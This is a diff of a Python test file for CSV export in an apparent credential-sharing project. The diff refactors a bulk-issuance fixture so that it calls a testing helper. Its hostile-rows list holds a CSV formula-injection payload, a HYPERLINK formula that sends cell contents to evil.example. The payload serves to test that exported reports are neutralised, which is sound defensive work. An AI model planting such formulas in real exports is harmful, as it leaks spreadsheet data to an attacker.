@@ -12,7 +12,6 @@ from credshare.api.models import ApiKey
 from credshare.api.services import api_key_create
 from credshare.core import testing
 from credshare.core.csv_export import SafeCsvWriter, formula_safe
-from credshare.documents import bulk
 
 HOSTILE_EXTERNAL_IDS = [
     '=HYPERLINK("https://evil.example/?"&A1,"Click")',
@@ -72,14 +71,7 @@ def job_with_hostile_rows(settings, university, zoe):
         for number, external_id in enumerate(HOSTILE_EXTERNAL_IDS)
     ]
     registrar = testing.make_issuer_staff(university, "registrar@example-university.org")
-    job = bulk.issuance_job_create(
-        issuer=university,
-        created_by=registrar,
-        rows_file=testing.bulk_csv(rows),
-        pdf_archive=testing.bulk_zip(),
-    )
-    bulk.issuance_job_process(job_id=job.pk)
-    return job, registrar
+    return testing.run_bulk_csv(university, registrar, rows), registrar
 
 
 def assert_report_is_neutralized(content: bytes, job):
